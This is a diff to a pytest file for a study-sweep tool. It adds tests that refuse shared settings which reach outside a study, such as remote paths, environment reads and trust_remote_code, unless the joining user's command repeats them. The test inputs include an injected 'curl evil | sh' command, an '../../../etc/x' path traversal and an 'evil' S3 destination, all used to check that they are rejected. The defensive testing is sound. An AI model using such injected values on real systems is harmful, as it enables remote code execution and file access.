@@ -21,8 +21,9 @@ from sweep.records.folder import StudyFolder
 from sweep.run.displays import Shown
 from sweep.run.joining import join_study
 from sweep.settings.compose import Composer
-from sweep.settings.joined import joined_overrides, joins, machine_settings
+from sweep.settings.joined import joined_overrides, joins, machine_settings, of_study, reaching_out
 from sweep.settings.load import load_settings
+from sweep.study.ownership import Ownership
 from sweep.study.recipe import leave_recipe, recipe_of
 from sweep.study.store import StudyStore
 
@@ -64,6 +65,52 @@ def test_what_is_the_owners_to_decide_is_refused(own: str) -> None:
         joined_overrides(["train.steps=6"], ["launcher=join", own])
 
 
+REACHING = [
+    "study.artifacts=s3://bucket/folder",
+    "study.artifacts='file:///folder'",
+    "data.path=${oc.env:HOME}",
+    "data.path='https://somewhere/data.jsonl'",
+    "evaluation.path='simplecache::s3://bucket/file'",
+    "model.trust_remote_code=true",
+    "model={trust_remote_code: true}",
+    "study.space={model.trust_remote_code: {grid: [true]}}",
+    "study.space={model.query_prefix: {grid: ['a', '${oc.env:HOME}']}}",
+    r"model.query_prefix=$\{oc.env\:HOME\}",
+]
+
+
+@pytest.mark.parametrize("override", REACHING)
+def test_what_reaches_beyond_the_study_counts_only_if_the_own_command_says_it(override: str) -> None:
+    assert reaching_out(["train.steps=6", override, "paths.sweeps=${oc.env:HOME}"]) == [override]
+    with pytest.raises(InputError, match=r"run code, ask a server or read (.|\n)* repeat them in this command"):
+        joined_overrides(["train.steps=6", override], ["launcher=join"])
+    assert override in joined_overrides(["train.steps=6", override], ["launcher=join", override])
+    other = "study.artifacts=s3://another/folder"
+    with pytest.raises(InputError):
+        joined_overrides(["train.steps=6", override], ["launcher=join", other])
+
+
+def test_what_is_repeated_may_be_quoted_otherwise() -> None:
+    own = ["launcher=join", 'study.artifacts="s3://bucket/folder"']
+    owners = "study.artifacts='s3://bucket/folder'"
+    assert joined_overrides([owners], own)[0] == owners
+
+
+@pytest.mark.parametrize(
+    "override",
+    ["hydra.searchpath=[pkg://somewhere]", "+hydra/launcher=basic", "+x@hydra.run=y", "train.steps=1,2", "a=[", ""],
+)
+def test_what_is_no_setting_of_a_study_is_refused_whoever_says_it(override: str) -> None:
+    with pytest.raises(InputError, match="the settings in the study's database have"):
+        joined_overrides([override], ["launcher=join", override])
+
+
+def test_an_owner_leaves_nothing_of_its_machine() -> None:
+    given = ["+experiment=smoke", "tracking.uri=https://host/path", "paths.cache=/home/me", "launcher.options={a: b}"]
+    given += ["study.storage=${oc.env:A}", "study.seeds=[0]"]
+    assert of_study(given) == ["+experiment=smoke", "study.seeds=[0]"]
+
+
 def test_a_study_has_to_be_named_and_reachable(monkeypatch: pytest.MonkeyPatch) -> None:
     with pytest.raises(InputError, match=r"which study\? Give its study\.name=NAME"):
         machine_settings(Composer("sweep", ["launcher=join", VARIABLE]))
@@ -99,7 +146,7 @@ def owned(tmp_path: Path, postgres: PostgresServer, monkeypatch: pytest.MonkeyPa
     folder = StudyFolder(tmp_path / "sweeps" / name)
     store = StudyStore(folder, settings.study, alive_in(folder.workers))
     store.check_settings(settings)
-    leave_recipe(store, settings, composer, data)
+    leave_recipe(store, settings, composer, data, Ownership(name, None, ""))
     join = ["launcher=join", "launcher.workers=1", f"study.name={name}", VARIABLE, "study.patience_s=0"]
     return store, folder, data, join
 
@@ -115,19 +162,40 @@ def change_recipe(store: StudyStore, **changed: object) -> None:
 
 
 def test_a_recipe_is_read_as_it_was_left(owned: Owned) -> None:
-    store, folder, data, _ = owned
+    store, folder, data, join = owned
     recipe = recipe_of(store.storage.attributes())
     assert recipe is not None
     assert recipe.data == data
     assert recipe.place == place_of(folder.workers)
-    assert "study.storage=${oc.env:SWEEP_STORAGE}" in " ".join(recipe.overrides).replace("'", "")
+    assert recipe.overrides == SMALL[:-1]
     assert "storage" not in recipe.study
-    settings = load_settings(Composer("sweep", recipe.overrides))
-    assert not recipe.differences(settings)
-    more = load_settings(Composer("sweep", [*recipe.overrides, "study.seeds=[0,1]", "train.steps=9"]))
+    joined = joined_overrides(recipe.overrides, join)
+    assert not recipe.differences(load_settings(Composer("sweep", joined)))
+    more = load_settings(Composer("sweep", [*joined, "study.seeds=[0,1]", "train.steps=9"]))
     lines = "\n".join(recipe.differences(more))
     assert "train.steps: 40 in the study, 9 now" in lines
     assert "study.seeds: [0] in the study, [0, 1] now" in lines
+
+
+WHOLE = {"version": "0.1", "place": "0123abcd", "overrides": [], "config_dir": None, "study": {}}
+
+
+@pytest.mark.parametrize(
+    "left",
+    [
+        5,
+        [],
+        {},
+        {**WHOLE, "data": []},
+        {**WHOLE, "data": [5]},
+        {**WHOLE, "data": [{}], "overrides": [{"a": 1}]},
+        {**WHOLE, "version": "0.1; curl evil | sh"},
+        {**WHOLE, "place": "../../../etc/x"},
+    ],
+)
+def test_what_no_owner_has_left_is_refused(left: object) -> None:
+    with pytest.raises(InputError, match="what the study's database has for those who join cannot be read"):
+        recipe_of({"recipe": left, "settings": {}})
 
 
 def of_another_version(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
@@ -137,6 +205,15 @@ def of_another_version(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
 def of_other_data(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
     first = replace(data[0], digest="0" * 64)
     change_recipe(store, data=[vars(first)])
+
+
+def of_less_data(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
+    change_recipe(store, data=[vars(data[0])])
+
+
+def of_a_place_elsewhere(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
+    left = store.storage.attributes()[recipes.RECIPE]
+    change_recipe(store, overrides=[*left["overrides"], "study.artifacts=s3://evil/place"])
 
 
 def of_another_tree(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
@@ -156,6 +233,8 @@ def of_a_group_that_is_not_here(store: StudyStore, data: tuple[DataRecord, ...])
             r"runs version 0\.0\.1 of this program, .*: install multilingual-ratio-sweep",
         ),
         (of_other_data, r"the data here are not those of the study's owner: .* had .* SHA-256 0{12}"),
+        (of_less_data, r"the data here are not those of the study's owner: it does not have "),
+        (of_a_place_elsewhere, r"repeat them in this command:\n  'study\.artifacts=s3://evil/place'"),
         (
             of_another_tree,
             r"train\.steps: 40 in the study, 9 now\n(.|\n)*--config-dir with a copy of the owner",
